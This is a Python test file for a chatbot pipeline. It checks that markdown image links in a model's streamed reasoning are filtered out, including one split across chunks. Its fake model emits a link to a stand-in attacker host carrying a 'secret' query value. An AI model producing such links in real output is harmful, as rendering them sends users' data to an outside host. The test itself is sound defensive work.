"""The pipeline from a question to an answer."""

from collections.abc import Iterator

from chatbot.rag import pipeline, token_counts
from chatbot.rag.types import CompletionRequest, Finish, Question


class Thinker:
    """A model that thinks in pieces before it answers, twice."""

    name = "thinker"

    def stream(self, request: CompletionRequest) -> Iterator[str | Finish]:
        for piece in ("See ![x", "](https://evil.example/?q=secret)", " and [note"):
            request.on_reasoning(piece)
        yield "One."
        request.on_reasoning("More.")
        yield Finish("stop", self.name)


def test_reasoning_is_filtered_as_the_answer_is_and_comes_out_whole() -> None:
    told: list[str] = []
    question = Question("Why?", on_reasoning=told.append)
    _, *pieces = pipeline.answer(question, Thinker(), 1000, token_counts.estimate)
    assert pieces == ["One.", Finish("stop", "thinker")]
    assert "https://evil.example" not in "".join(told)
    assert told[-2:] != []
    assert "".join(told).endswith(" and [noteMore.")
